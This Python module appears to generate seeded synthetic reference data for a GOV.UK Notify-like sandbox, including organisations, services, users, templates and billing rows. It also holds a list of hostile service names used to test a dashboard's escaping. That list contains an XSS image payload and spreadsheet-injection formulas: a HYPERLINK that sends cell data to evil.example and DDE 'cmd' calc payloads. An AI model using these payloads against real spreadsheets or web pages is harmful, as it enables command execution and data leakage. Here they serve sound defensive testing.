"""Generate the sandbox's reference data: organisations, services, users, templates and more.

Everything follows from (seed, number of services, anchor day). Each part draws from its own
`random.Random` seeded by a string such as "1:templates:<service id>", so the parts do not
disturb one another when one of them changes, and no function shares a generator with another.
Rows are plain dicts keyed by database column; `volumes.py` generates the daily counts.

Every database, whatever its size, has GOV.UK Notify's own service and a few services that
are not live although they look it (active but not counted as live, or live once but now
inactive). With `hostile_names`, a few live services (and the first template of each) are named
with markup and spreadsheet formula payloads, so the dashboard can be tested for showing names
as text and writing them into CSVs as data.
"""

import json
import random
import re
import uuid
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta

from notify_sandbox import names, own_service, template_texts
from notify_sandbox.clock import at_midnight, stored
from notify_sandbox.facts import (
    CHANNELS,
    FIRST_FINANCIAL_YEAR,
    INTERNATIONAL_SMS_LIMIT,
    LIVE_LIMITS,
    TRIAL_LIMIT,
    default_allowance,
    financial_year_of,
)

PARKING_SERVICE_ID = "da73e75a-0996-44f7-aeb4-62d5f5d5489e"
NOTIFY_SERVICE_ID = own_service.NOTIFY_SERVICE_ID
PEER_TESTING_ORGANISATION_ID = "1caa4d30-36eb-403f-a717-bdd0c4439d4e"
JO_BLOGGS_USER_ID = "0e3dbdf8-5108-4573-acf6-89045cabf57e"
NOTIFY_USER_ID = "6af522d0-2915-4e52-83a3-3690455a5fe6"
NOTIFY_LIMITS = {"email": 1000, "sms": 1000, "letter": 20_000}
PARKING_RETENTION = (
    ("acea0d40-532b-43de-bf32-f009a78b1465", "email", 7),
    ("818c5f9b-da2e-4e31-8241-7c90d0f372e7", "sms", 7),
    ("c283c749-f4ed-4d51-9f96-3b7132cdd1f7", "letter", 30),
)

#: Services of each kind that every database has at least, however small.
NOT_LIVE_AT_LEAST = 2
#: Names that a page showing them as markdown or HTML would get wrong.
HOSTILE_NAMES = (
    "[x](https://evil.example)",
    "<img src=x onerror=alert(1)>",
    "**bold**",
    "Fees of $1 + $2 :red[red]",
    # What a spreadsheet runs (OWASP's CSV injection starts): the CSVs must write them as text.
    '=HYPERLINK("https://evil.example/?d="&B2,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab",
    "\r=1+1 return",
)

#: Roughly how government uses Notify: many local and central services, fewer others.
SECTOR_WEIGHTS = {
    "local": 36,
    "central": 25,
    "nhs_local": 12,
    "nhs_central": 5,
    "nhs_gp": 5,
    "emergency_service": 5,
    "school_or_college": 6,
    "other": 6,
}
USER_PERMISSIONS = (
    "manage_users",
    "manage_templates",
    "manage_settings",
    "send_texts",
    "send_emails",
    "send_letters",
    "manage_api_keys",
    "view_activity",
)
_STOP_WORDS = {
    "city",
    "council",
    "borough",
    "county",
    "district",
    "of",
    "and",
    "the",
    "for",
    "nhs",
    "trust",
    "foundation",
    "hm",
    "service",
    "services",
}


@dataclass(frozen=True)
class Organisation:
    """An organisation that owns services; its domain gives users' email addresses."""

    id: str
    name: str
    organisation_type: str
    domain: str


@dataclass(frozen=True)
class ServicePlan:
    """The decisions about one service that every other part of the generator depends on."""

    sid: int
    id: str
    name: str
    organisation: Organisation | None
    organisation_type: str | None
    restricted: bool
    active: bool
    count_as_live: bool
    created_days_ago: int
    live_days_ago: int | None
    inactive_days_ago: int | None
    channels: tuple[str, ...]
    permissions: tuple[str, ...]
    size: float
    thing: str | None
    sign_off: str


@dataclass(frozen=True)
class ReferenceData:
    """Every generated row except the daily counts, ready for `executemany`."""

    plans: tuple[ServicePlan, ...]
    organisations: list[dict]
    services: list[dict]
    users: list[dict]
    user_services: list[dict]
    templates: list[dict]
    template_versions: list[dict]
    data_retention: list[dict]
    annual_billing: list[dict]
    reply_to: list[dict]
    api_keys: list[dict]


def rng_for(seed: int, *parts: object) -> random.Random:
    """A generator for one part of the data, stable across processes and Python versions."""
    return random.Random(":".join(str(part) for part in (seed, *parts)))


def new_uuid(rng: random.Random) -> str:
    """A version-4 UUID drawn from a seeded generator, so ids repeat with the seed."""
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def generate_reference_data(
    seed: int, services: int, anchor: date, *, hostile_names: bool = False
) -> ReferenceData:
    """All reference rows for `services` services (the two recorded ones included)."""
    pools = organisation_pools(seed)
    plans = with_platform_volumes(
        seed, with_some_not_live(seed, plan_services(seed, services, pools))
    )
    if hostile_names:
        plans = with_hostile_names(plans)
    organisations = {
        plan.organisation.id: plan.organisation for plan in plans if plan.organisation is not None
    }
    users, user_services = generate_users(seed, plans, anchor)
    creators = _first_user_by_service(user_services)
    templates, versions = [], []
    for plan in plans:
        plan_templates, plan_versions = generate_templates(seed, plan, anchor, creators[plan.id])
        templates.extend(plan_templates)
        versions.extend(plan_versions)
    if hostile_names:
        versions = with_hostile_template_names(plans, templates, versions)
    alert_templates, alert_versions = alert_template_rows(anchor)
    templates.extend(alert_templates)
    versions.extend(alert_versions)
    has_email_templates = {
        row["service_id"] for row in templates if row["template_type"] == "email"
    }
    return ReferenceData(
        plans=tuple(plans),
        organisations=[_organisation_row(organisation) for organisation in organisations.values()],
        services=[service_row(seed, plan, anchor, creators[plan.id]) for plan in plans],
        users=users,
        user_services=user_services,
        templates=templates,
        template_versions=versions,
        data_retention=[row for plan in plans for row in generate_retention(seed, plan, anchor)],
        annual_billing=[row for plan in plans for row in generate_allowances(seed, plan, anchor)],
        reply_to=[
            row
            for plan in plans
            for row in generate_reply_to(seed, plan, anchor, plan.id in has_email_templates)
        ],
        api_keys=[notify_test_key_row(anchor)],
    )


def alert_template_rows(anchor: date) -> tuple[list[dict], list[dict]]:
    """GOV.UK Notify's own alert templates (one version each), which the dashboard's alerts
    checker sends with by default."""
    created = stored(at_midnight(anchor) - timedelta(days=30))
    templates, versions = [], []
    for template_id, kind, name, subject, content in own_service.ALERT_TEMPLATES:
        templates.append(
            {
                "id": template_id,
                "service_id": NOTIFY_SERVICE_ID,
                "template_type": kind,
                "version": 1,
                "archived": 0,
                "hidden": 0,
                "postage": None,
                "created_at": created,
                "updated_at": created,
                "created_by": NOTIFY_USER_ID,
            }
        )
        versions.append(
            {
                "template_id": template_id,
                "version": 1,
                "name": name,
                "subject": subject,
                "content": content,
                "created_at": created,
                "updated_at": None,
                "created_by": NOTIFY_USER_ID,
            }
        )
    return templates, versions


def notify_test_key_row(anchor: date) -> dict:
    """The documented test API key of GOV.UK Notify's own service."""
    return {
        "id": own_service.TEST_KEY_ID,
        "service_id": NOTIFY_SERVICE_ID,
        "name": own_service.TEST_KEY_NAME,
        "secret": own_service.TEST_KEY_SECRET,
        "key_type": "test",
        "created_at": stored(at_midnight(anchor) - timedelta(days=30)),
        "expiry_date": None,
    }


def organisation_pools(seed: int) -> dict[str, list[Organisation]]:
    """Organisations of each type, shuffled so that the busiest ones differ by seed."""
    rng = rng_for(seed, "organisations")
    names_by_type = {
        "central": list(names.CENTRAL_ORGANISATIONS),
        "local": [f"{city} City Council" for city in names.CITIES]
        + [f"{county} County Council" for county in names.COUNTIES]
        + [f"{borough} Borough Council" for borough in names.BOROUGHS]
        + [f"{district} District Council" for district in names.DISTRICTS]
        + list(names.UNITARY_COUNCILS),
        "nhs_central": list(names.NHS_CENTRAL_ORGANISATIONS),
        "nhs_local": list(names.NHS_LOCAL_FIXED)
        + [
            names.NHS_LOCAL_PATTERNS[index % len(names.NHS_LOCAL_PATTERNS)].format(place=city)
            for index, city in enumerate(names.CITIES)
        ],
        "nhs_gp": [
            pattern.format(street=street, place=place)
            for pattern, street, place in zip(
                names.GP_PATTERNS * 8,
                names.STREETS * 3,
                names.CITIES + names.BOROUGHS,
                strict=False,
            )
        ],
        "emergency_service": list(names.EMERGENCY_FIXED)
        + [
            pattern.format(county=county)
            for county in names.COUNTIES
            for pattern in names.EMERGENCY_PATTERNS
        ],
        "school_or_college": [
            pattern.format(place=place, saint=saint)
            for pattern, place, saint in zip(
                names.SCHOOL_PATTERNS * 8,
                names.CITIES + names.BOROUGHS,
                names.SAINTS * 12,
                strict=False,
            )
        ],
        "other": list(names.OTHER_ORGANISATIONS)
        + [
            pattern.format(place=place)
            for place in names.CITIES[:8]
            for pattern in names.OTHER_PATTERNS
        ],
    }
    pools = {}
    for organisation_type, type_names in names_by_type.items():
        unique_names = list(dict.fromkeys(type_names))
        rng.shuffle(unique_names)
        pools[organisation_type] = [
            Organisation(
                new_uuid(rng), name, organisation_type, organisation_domain(name, organisation_type)
            )
            for name in unique_names
        ]
    return pools


def organisation_domain(name: str, organisation_type: str) -> str:
    """A plausible email domain for an organisation's staff."""
    words = [word for word in re.findall(r"[a-z]+", name.lower()) if word not in _STOP_WORDS]
    slug = "".join(words)[:24] or "gov"
    if organisation_type in ("nhs_central", "nhs_local", "nhs_gp"):
        return "nhs.net"
    if organisation_type == "emergency_service":
        return f"{slug}.police.uk" if "police" in name.lower() else f"{slug}.gov.uk"
    if organisation_type == "school_or_college":
        return f"{slug}.ac.uk"
    if organisation_type == "other":
        return f"{slug}.org.uk"
    return f"{slug}.gov.uk"


def plan_services(seed: int, count: int, pools: dict[str, list[Organisation]]) -> list[ServicePlan]:
    """Decide each service's sector, name, mode, age and channels; names come out unique."""
    rng = rng_for(seed, "services")
    plans = [_notify_plan(), _parking_plan()][:count]
    used_names = {plan.name for plan in plans}
    untyped = min(len(names.UNTYPED_SERVICES), max(1, round(count * 0.005)))
    sectors = list(SECTOR_WEIGHTS)
    weights = list(SECTOR_WEIGHTS.values())
    fixed = len(plans)
    for sid in range(fixed + 1, count + 1):
        if sid - fixed <= untyped:
            organisation, organisation_type, thing = None, None, None
            name = names.UNTYPED_SERVICES[sid - fixed - 1]
        else:
            organisation_type = rng.choices(sectors, weights)[0]
            organisation, thing, name = _pick_name(rng, pools[organisation_type], used_names)
        used_names.add(name)
        plans.append(_plan(rng, sid, name, organisation, organisation_type, thing))
    return plans


def with_some_not_live(seed: int, plans: list[ServicePlan]) -> list[ServicePlan]:
    """Plans with at least a few services that look live but are not: active ones not counted
    as live, and live ones made inactive.

    Large databases have enough of both by chance and come back unchanged; small ones get
    some from their live services, so "live" can be told apart at every size.
    """
    rng = rng_for(seed, "not-live")
    changed = {plan.sid: plan for plan in plans}

    def live_ones() -> list[ServicePlan]:
        return [plan for plan in changed.values() if plan.sid > 2 and _is_live(plan)]

    uncounted = [
        plan
        for plan in changed.values()
        if plan.active and not plan.restricted and not plan.count_as_live
    ]
    candidates = live_ones()
    for plan in rng.sample(candidates, _missing(NOT_LIVE_AT_LEAST, uncounted, candidates)):
        changed[plan.sid] = replace(plan, count_as_live=False)
    closed = [plan for plan in changed.values() if not plan.active and not plan.restricted]
    candidates = live_ones()
    for plan in rng.sample(candidates, _missing(NOT_LIVE_AT_LEAST, closed, candidates)):
        last_day = plan.live_days_ago if plan.live_days_ago is not None else plan.created_days_ago
        changed[plan.sid] = replace(plan, active=False, inactive_days_ago=rng.randint(0, last_day))
    return list(changed.values())


#: How much a live service of each sector sends, as a lognormal's (mu, sigma) of messages a
#: day and a ceiling. Central government and the NHS's national bodies send most of the
#: platform's messages (tax, driving, health campaigns); a council's or a GP surgery's service
#: sends hundreds or thousands a day, not hundreds of thousands.
SENDING_SIZE = {
    "central": (3.2, 2.3, 150_000.0),
    "nhs_central": (3.2, 2.3, 150_000.0),
    "local": (2.3, 1.6, 6_000.0),
    "nhs_local": (2.3, 1.6, 8_000.0),
    "emergency_service": (1.8, 1.5, 3_000.0),
    "nhs_gp": (1.2, 1.2, 400.0),
    "school_or_college": (1.2, 1.3, 800.0),
    "other": (1.8, 1.5, 3_000.0),
    None: (1.8, 1.5, 3_000.0),
}
#: The least a live service with no organisation type sends a day.
UNTYPED_SIZE = 2_000.0
#: The share of central and national NHS services that are the platform's giants.
GIANT_SHARE = 0.025


def with_platform_volumes(seed: int, plans: list[ServicePlan]) -> list[ServicePlan]:
    """Plans whose live size follows a long tail by sector: a few national services send most
    messages, most services send little (drawn from a generator of their own, so the rest of a
    plan stays as it was). Trial services keep their small size, and the two recorded services
    theirs."""
    changed = []
    for plan in plans:
        if plan.restricted or plan.id in (NOTIFY_SERVICE_ID, PARKING_SERVICE_ID):
            changed.append(plan)
            continue
        rng = rng_for(seed, "sending-size", plan.id)
        mu, sigma, ceiling = SENDING_SIZE.get(plan.organisation_type, SENDING_SIZE[None])
        if ceiling >= 100_000 and rng.random() < GIANT_SHARE:
            size = rng.uniform(20_000, ceiling)
        else:
            size = min(ceiling, rng.lognormvariate(mu, sigma))
        if plan.organisation_type is None:
            # Services with no organisation type are government platforms' own (GOV.UK Pay's
            # notifications, say): thousands a day, beyond a small allowance.
            size = max(size, UNTYPED_SIZE)
        changed.append(replace(plan, size=size))
    return changed


def _missing(wanted: int, present: list, candidates: list) -> int:
    """How many more are needed to have `wanted`, as far as the candidates go."""
    return max(0, min(len(candidates), wanted - len(present)))


def with_hostile_names(plans: list[ServicePlan]) -> list[ServicePlan]:
    """Plans with the first live services that send texts renamed to `HOSTILE_NAMES`."""
    chosen = [
        plan.sid for plan in plans if plan.sid > 2 and _is_live(plan) and "sms" in plan.channels
    ]
    names_by_sid = dict(zip(chosen, HOSTILE_NAMES, strict=False))
    return [
        replace(plan, name=names_by_sid[plan.sid]) if plan.sid in names_by_sid else plan
        for plan in plans
    ]


def with_hostile_template_names(
    plans: list[ServicePlan], templates: list[dict], versions: list[dict]
) -> list[dict]:
    """Versions with the first template of each hostile-named service named as the service:
    template names come from the API too, and the Service page writes them into its CSVs."""
    hostile = {plan.id: plan.name for plan in plans if plan.name in HOSTILE_NAMES}
    first: dict[str, str] = {}
    for row in templates:
        if row["service_id"] in hostile:
            first.setdefault(row["service_id"], row["id"])
    names = {template_id: hostile[service_id] for service_id, template_id in first.items()}
    return [
        {**row, "name": names[row["template_id"]]} if row["template_id"] in names else row
        for row in versions
    ]


def _is_live(plan: ServicePlan) -> bool:
    """Active, out of trial mode and counted as live: what the API's live lists hold."""
    return plan.active and not plan.restricted and plan.count_as_live


def tasks_for(organisation: Organisation) -> dict[str, tuple[str, ...]]:
    """What an organisation's services do: its own tasks, its sector's, or generic ones."""
    if organisation.organisation_type in ("central", "nhs_central"):
        return names.ORGANISATION_TASKS.get(organisation.name, names.GENERIC_TASKS)
    if organisation.organisation_type == "emergency_service":
        police = "police" in organisation.name.lower()
        return names.POLICE_TASKS if police else names.FIRE_TASKS
    return names.TASKS[organisation.organisation_type]


def _pick_name(
    rng: random.Random, pool: list[Organisation], used_names: set[str]
) -> tuple[Organisation, str, str]:
    """An organisation, a task and a name not yet used.

    A central body's task says who sends it ("Apply for a passport", then "Apply for a
    passport – Wales"); other sectors name the organisation ("Report a pothole – Leeds City
    Council"). Busy organisations come up more often than quiet ones.
    """
    for _ in range(500):
        organisation = pool[int(len(pool) * rng.random() ** 1.6)]
        tasks = tasks_for(organisation)
        thing = rng.choice(list(tasks))
        task = f"{rng.choice(tasks[thing])} {thing}"
        if organisation.organisation_type in ("central", "nhs_central"):
            candidates = [task, *(f"{task} – {qualifier}" for qualifier in names.QUALIFIERS)]
        else:
            candidates = [f"{task} – {organisation.name}"]
        for name in candidates:
            if name not in used_names:
                return organisation, thing, name
    number = 2
    while f"{name} ({number})" in used_names:
        number += 1
    return organisation, thing, f"{name} ({number})"


def _plan(
    rng: random.Random,
    sid: int,
    name: str,
    organisation: Organisation | None,
    organisation_type: str | None,
    thing: str | None,
) -> ServicePlan:
    """Mode, age, activity and channels for one generated service."""
    restricted = rng.random() < 0.25
    if restricted:
        created_days_ago = 1 + int(rng.random() ** 1.5 * 700)
        live_days_ago = None
    else:
        created_days_ago = 30 + int(rng.random() ** 0.8 * 2900)
        live_days_ago = max(1, created_days_ago - rng.randint(7, min(240, created_days_ago - 1)))
    active = rng.random() > (0.12 if restricted else 0.02)
    inactive_days_ago = None if active else rng.randint(0, created_days_ago)
    channels = rng.choices(
        (("email", "sms"), ("email",), ("email", "sms", "letter"), ("sms",), ("email", "letter")),
        (45, 20, 25, 5, 5),
    )[0]
    extras = []
    if "sms" in channels and rng.random() < 0.4:
        extras.append("international_sms")
    if "letter" in channels and rng.random() < 0.5:
        extras.append("international_letters")
    if "sms" in channels and rng.random() < 0.1:
        extras.append("inbound_sms")
    for permission, chance in (
        ("email_auth", 0.2),
        ("upload_document", 0.1),
        ("edit_folder_permissions", 0.25),
    ):
        if rng.random() < chance:
            extras.append(permission)
    if restricted:
        size = min(15.0, rng.lognormvariate(-0.5, 1.0))
    elif rng.random() < 0.006:
        size = rng.uniform(30_000, 150_000)
    else:
        size = min(150_000.0, rng.lognormvariate(2.2, 2.0))
    sign_off = organisation.name if organisation else name
    return ServicePlan(
        sid=sid,
        id=new_uuid(rng),
        name=name,
        organisation=organisation,
        organisation_type=organisation_type,
        restricted=restricted,
        active=active,
        count_as_live=rng.random() > 0.03,
        created_days_ago=created_days_ago,
        live_days_ago=live_days_ago,
        inactive_days_ago=inactive_days_ago,
        channels=_ordered_channels(channels),
        permissions=_ordered_channels(channels) + tuple(extras),
        size=size,
        thing=thing,
        sign_off=sign_off,
    )


def _ordered_channels(channels: tuple[str, ...]) -> tuple[str, ...]:
    """Channels in the API's usual permission order: sms, email, letter."""
    return tuple(channel for channel in ("sms", "email", "letter") if channel in channels)


def _notify_plan() -> ServicePlan:
    """GOV.UK Notify itself, as the recorded service list shows it."""
    return ServicePlan(
        sid=1,
        id=NOTIFY_SERVICE_ID,
        name="GOV.UK Notify",
        organisation=None,
        organisation_type=None,
        restricted=False,
        active=True,
        count_as_live=True,
        created_days_ago=3000,
        live_days_ago=None,
        inactive_days_ago=None,
        channels=("sms", "email"),
        permissions=("sms", "email", "international_sms", "international_letters"),
        size=700.0,
        thing=None,
        sign_off="GOV.UK Notify",
    )


def _parking_plan() -> ServicePlan:
    """The recorded "Apply for a parking permit" service."""
    organisation = Organisation(
        PEER_TESTING_ORGANISATION_ID,
        "Department for Peer Testing",
        "central",
        "peer-testing.gov.uk",
    )
    return ServicePlan(
        sid=2,
        id=PARKING_SERVICE_ID,
        name="Apply for a parking permit",
        organisation=organisation,
        organisation_type="central",
        restricted=False,
        active=True,
        count_as_live=True,
        created_days_ago=120,
        live_days_ago=90,
        inactive_days_ago=None,
        channels=("sms", "email", "letter"),
        permissions=("sms", "email", "letter", "international_sms", "international_letters"),
        size=150.0,
        thing="a parking permit",
        sign_off="Parking Services",
    )


def daily_limits(plan: ServicePlan) -> dict[str, int]:
    """Daily limits by channel: 50 in trial mode, the live limits once live (Notify: 1,000)."""
    if plan.id == NOTIFY_SERVICE_ID:
        return dict(NOTIFY_LIMITS)
    return {
        channel: TRIAL_LIMIT if plan.restricted else LIVE_LIMITS[channel] for channel in CHANNELS
    }


def moment(rng: random.Random, anchor: date, days_ago: int) -> datetime:
    """A working-hours timestamp `days_ago` days before the anchor day."""
    day_start = at_midnight(anchor) - timedelta(days=days_ago)
    return day_start + timedelta(
        seconds=rng.randint(8 * 3600, 18 * 3600), microseconds=rng.randint(0, 999_999)
    )


def local_part(name: str) -> str:
    """The email sender local part Notify derives from a service name."""
    return ".".join(re.findall(r"[a-z0-9]+", name.lower()))[:64].strip(".")


def service_row(seed: int, plan: ServicePlan, anchor: date, creator: str) -> dict:
    """The stored service: every field of the API's service object, plus when it was created."""
    rng = rng_for(seed, "service-row", plan.id)
    live = not plan.restricted
    fixed = plan.id in (NOTIFY_SERVICE_ID, PARKING_SERVICE_ID)
    limits = daily_limits(plan)
    domain = plan.organisation.domain if plan.organisation else "notifications.service.gov.uk"
    go_live_at = None
    if plan.live_days_ago is not None:
        go_live_at = stored(moment(rng, anchor, plan.live_days_ago))
    central = plan.organisation_type in ("central", "nhs_central")
    billed = live and central and not fixed and rng.random() < 0.3
    wants_to_go_live = plan.restricted and rng.random() < 0.15
    intent = dict.fromkeys(CHANNELS)
    if wants_to_go_live or (live and not fixed and rng.random() < 0.5):
        yearly = max(1000, int(round(plan.size * 300, -2)))
        intent = {
            channel: (
                yearly // (20 if channel == "letter" else 1) if channel in plan.channels else None
            )
            for channel in CHANNELS
        }
    return {
        "sid": plan.sid,
        "id": plan.id,
        "name": plan.name,
        "active": int(plan.active),
        "restricted": int(plan.restricted),
        "count_as_live": int(plan.count_as_live),
        "organisation_id": plan.organisation.id if plan.organisation else None,
        "organisation_type": plan.organisation_type,
        "created_at": stored(moment(rng, anchor, plan.created_days_ago)),
        "created_by": creator,
        "go_live_at": go_live_at,
        "go_live_user": creator if go_live_at else None,
        "email_message_limit": limits["email"],
        "sms_message_limit": limits["sms"],
        "letter_message_limit": limits["letter"],
        "international_sms_message_limit": INTERNATIONAL_SMS_LIMIT,
        "rate_limit": 3000,
        "permissions": json.dumps(list(plan.permissions)),
        "prefix_sms": int(
            plan.id == PARKING_SERVICE_ID
            or (plan.id != NOTIFY_SERVICE_ID and "sms" in plan.channels and rng.random() < 0.8)
        ),
        "contact_link": _contact_link(rng, plan, domain, live),
        "email_sender_local_part": local_part(plan.name),
        "confirmed_email_sender_name": (
            None if plan.id == NOTIFY_SERVICE_ID else int(not fixed and rng.random() < 0.4)
        ),
        "custom_email_sender_name": (
            plan.organisation.name
            if plan.organisation and not fixed and rng.random() < 0.1
            else None
        ),
        "consent_to_research": None if fixed else rng.choice((None, None, 1, 0)),
        "has_active_go_live_request": int(wants_to_go_live),
        "volume_email": intent["email"],
        "volume_sms": intent["sms"],
        "volume_letter": intent["letter"],
        "billing_contact_email_addresses": f"finance@{domain}" if billed else None,
        "billing_contact_names": "Finance team" if billed else None,
        "billing_reference": f"NOTIFY-{rng.randint(1000, 9999)}" if billed else None,
        "purchase_order_number": f"PO{rng.randint(100000, 999999)}" if billed else None,
        "email_branding": new_uuid(rng) if not fixed and rng.random() < 0.35 else None,
        "letter_branding": new_uuid(rng)
        if not fixed and "letter" in plan.channels and rng.random() < 0.6
        else None,
        "notes": rng.choice(names.NOTES) if live and not fixed and rng.random() < 0.05 else None,
        "service_callback_api": json.dumps(
            [new_uuid(rng)] if live and not fixed and rng.random() < 0.1 else []
        ),
        "confirmed_unique": 0,
        "letter_postage": "first" if rng.random() < 0.2 else "second",
    }


def _contact_link(rng: random.Random, plan: ServicePlan, domain: str, live: bool) -> str | None:
    """How recipients contact the service: a page, an address or a phone number."""
    if plan.id == PARKING_SERVICE_ID:
        return "https://www.gov.uk/contact-parking"
    if plan.id == NOTIFY_SERVICE_ID or not live or rng.random() < 0.3:
        return None
    return rng.choice(
        (
            f"https://www.{domain}/contact",
            f"contact@{domain}",
            f"0300 {rng.randint(100, 999)} {rng.randint(1000, 9999)}",
        )
    )


def _organisation_row(organisation: Organisation) -> dict:
    """The stored organisation."""
    return {
        "id": organisation.id,
        "name": organisation.name,
        "organisation_type": organisation.organisation_type,
    }


def generate_users(
    seed: int, plans: list[ServicePlan], anchor: date
) -> tuple[list[dict], list[dict]]:
    """Team members: one to four per service, some shared by services of one organisation."""
    rng = rng_for(seed, "users")
    users: list[dict] = []
    memberships: list[dict] = []
    by_organisation: dict[str, list[str]] = {}
    used_emails: set[str] = set()
    for plan in plans:
        team = _fixed_team(plan)
        if not team:
            shared = by_organisation.get(plan.organisation.id, []) if plan.organisation else []
            size = rng.choices((1, 2, 3, 4), (50, 30, 15, 5))[0]
            for _ in range(size):
                if shared and rng.random() < 0.25:
                    candidate = rng.choice(shared)
                    if candidate not in team:
                        team.append(candidate)
                        continue
                user = _new_user(rng, plan, anchor, used_emails)
                used_emails.add(user["email_address"])
                users.append(user)
                team.append(user["id"])
        else:
            users.extend(_fixed_user(rng, user_id, plan, anchor) for user_id in team)
        if plan.organisation:
            known = by_organisation.get(plan.organisation.id, [])
            by_organisation[plan.organisation.id] = known + [u for u in team if u not in known]
        for position, user_id in enumerate(team):
            permissions = (
                list(USER_PERMISSIONS)
                if position == 0
                else sorted(
                    {"view_activity", *rng.sample(USER_PERMISSIONS, rng.randint(1, 5))},
                    key=USER_PERMISSIONS.index,
                )
            )
            memberships.append(
                {
                    "user_id": user_id,
                    "service_id": plan.id,
                    "position": position,
                    "permissions": json.dumps(permissions),
                }
            )
    return users, memberships


def _fixed_team(plan: ServicePlan) -> list[str]:
    """The recorded services' users, or an empty list for generated services."""
    if plan.id == PARKING_SERVICE_ID:
        return [JO_BLOGGS_USER_ID]
    if plan.id == NOTIFY_SERVICE_ID:
        return [NOTIFY_USER_ID]
    return []


def _fixed_user(rng: random.Random, user_id: str, plan: ServicePlan, anchor: date) -> dict:
    """Jo Bloggs of the recorded user sample, or Notify's own service user."""
    created = moment(rng, anchor, plan.created_days_ago + 1)
    if user_id == JO_BLOGGS_USER_ID:
        person = ("Jo Bloggs", "jo.bloggs@peer-testing.gov.uk", "+447700900123", 0)
    else:
        person = (
            "Notify service user",
            "notify-service-user@digital.cabinet-office.gov.uk",
            None,
            1,
        )
    return _user_row(
        user_id,
        *person,
        created=created,
        logged_in=None,
        state="active",
        auth_type="sms_auth" if person[2] else "email_auth",
        research=1,
    )


def _new_user(rng: random.Random, plan: ServicePlan, anchor: date, used: set[str]) -> dict:
    """A generated team member whose email address is unique."""
    first, last = rng.choice(names.FIRST_NAMES), rng.choice(names.LAST_NAMES)
    domain = plan.organisation.domain if plan.organisation else "digital.cabinet-office.gov.uk"
    stem = re.sub(r"[^a-z.]", "", f"{first}.{last}".lower())
    email = f"{stem}@{domain}"
    number = 2
    while email in used:
        email = f"{stem}{number}@{domain}"
        number += 1
    created = moment(rng, anchor, plan.created_days_ago + rng.randint(0, 30))
    state = "pending" if rng.random() < 0.03 else "active"
    logged_in = None
    if state == "active" and rng.random() < 0.9:
        logged_in = moment(rng, anchor, rng.randint(1, min(90, plan.created_days_ago + 1)))
    auth_type = rng.choices(("sms_auth", "email_auth", "webauthn_auth"), (70, 25, 5))[0]
    mobile = f"+447700900{rng.randint(0, 999):03d}" if auth_type == "sms_auth" else None
    return _user_row(
        new_uuid(rng),
        f"{first} {last}",
        email,
        mobile,
        0,
        created=created,
        logged_in=logged_in,
        state=state,
        auth_type=auth_type,
        research=int(rng.random() < 0.6),
    )


def _user_row(
    user_id: str,
    name: str,
    email: str,
    mobile: str | None,
    platform_admin: int,
    *,
    created: datetime,
    logged_in: datetime | None,
    state: str,
    auth_type: str,
    research: int,
) -> dict:
    """The stored user."""
    return {
        "id": user_id,
        "name": name,
        "email_address": email,
        "mobile_number": mobile,
        "platform_admin": platform_admin,
        "state": state,
        "auth_type": auth_type,
        "created_at": stored(created),
        "logged_in_at": stored(logged_in) if logged_in else None,
        "password_changed_at": stored(created + timedelta(microseconds=82)),
        "email_access_validated_at": stored(logged_in or created),
        "failed_login_count": 0,
        "can_use_webauthn": int(auth_type == "webauthn_auth"),
        "receives_new_features_email": 1,
        "take_part_in_research": research,
        "current_session_id": None,
    }


def _first_user_by_service(memberships: list[dict]) -> dict[str, str]:
    """Each service's first team member, who created it."""
    return {row["service_id"]: row["user_id"] for row in reversed(memberships)}


def generate_templates(
    seed: int, plan: ServicePlan, anchor: date, creator: str
) -> tuple[list[dict], list[dict]]:
    """Two to eight templates for the service's channels, each with one or more versions."""
    rng = rng_for(seed, "templates", plan.id)
    if plan.id == PARKING_SERVICE_ID:
        wording = [
            (template_id, kind, name, subject, content, count)
            for template_id, kind, name, subject, content, count in template_texts.PARKING_TEMPLATES
        ]
    else:
        wording = _choose_wording(rng, plan)
    templates, versions = [], []
    for template_id, kind, name, subject, content, count in wording:
        template_id = template_id or new_uuid(rng)
        first_day = rng.randint(0, max(0, plan.created_days_ago - 1)) + 1
        days = sorted((rng.randint(1, first_day) for _ in range(count - 1)), reverse=True)
        version_days = [first_day, *days]
        created = [moment(rng, anchor, day) for day in version_days]
        for number, when in enumerate(created, start=1):
            versions.append(
                {
                    "template_id": template_id,
                    "version": number,
                    "name": name,
                    "subject": subject,
                    "content": _version_content(content, number, count, plan),
                    "created_at": stored(when),
                    "updated_at": None if number == 1 else stored(when),
                    "created_by": creator,
                }
            )
        templates.append(
            {
                "id": template_id,
                "service_id": plan.id,
                "template_type": kind,
                "version": count,
                "archived": int(plan.id != PARKING_SERVICE_ID and rng.random() < 0.05),
                "hidden": 0,
                "postage": "second" if kind == "letter" else None,
                "created_at": stored(created[0]),
                "updated_at": stored(created[-1] + timedelta(microseconds=8887)),
                "created_by": creator,
            }
        )
    return templates, versions


def _choose_wording(rng: random.Random, plan: ServicePlan) -> list[tuple]:
    """(id, type, name, subject, content, versions) for a generated service's templates."""
    options = []
    noun = _countable_noun(plan.thing)
    for kind in plan.channels:
        if noun:
            options.extend((kind, *text) for text in template_texts.THING_TEMPLATES[kind])
        options.extend((kind, *text) for text in template_texts.GENERIC_TEMPLATES[kind])
    chosen = rng.sample(options, min(len(options), rng.randint(2, 8)))
    # Every channel the service sends has a template to send it from, as on the platform.
    chosen += [
        next(option for option in options if option[0] == kind)
        for kind in plan.channels
        if kind not in {option[0] for option in chosen}
    ]
    wording = []
    for kind, name, subject, content in chosen:
        fill = {
            "thing": noun or "",
            "Thing": (noun or "").capitalize(),
            "a_thing": plan.thing or "",
            "sign_off": plan.sign_off,
            "days": "{days}",
        }
        wording.append(
            (
                None,
                kind,
                name.format(**fill),
                subject.format(**fill) if subject else None,
                content.format(**fill),
                rng.choices((1, 2, 3, 4, 6, 8), (50, 20, 12, 8, 6, 4))[0],
            )
        )
    return wording


def _countable_noun(thing: str | None) -> str | None:
    """ "a parking permit" → "parking permit"; None when the thing is not one countable noun."""
    if thing is None:
        return None
    match = re.fullmatch(r"(?:a|an|your) (.+)", thing)
    return match.group(1) if match else None


def _version_content(content: str, number: int, count: int, plan: ServicePlan) -> str:
    """The wording of one version: versions differ in the time they give and a closing line."""
    if plan.id == PARKING_SERVICE_ID:
        return content if number == count else content.replace("Parking Services", "Parking Team")
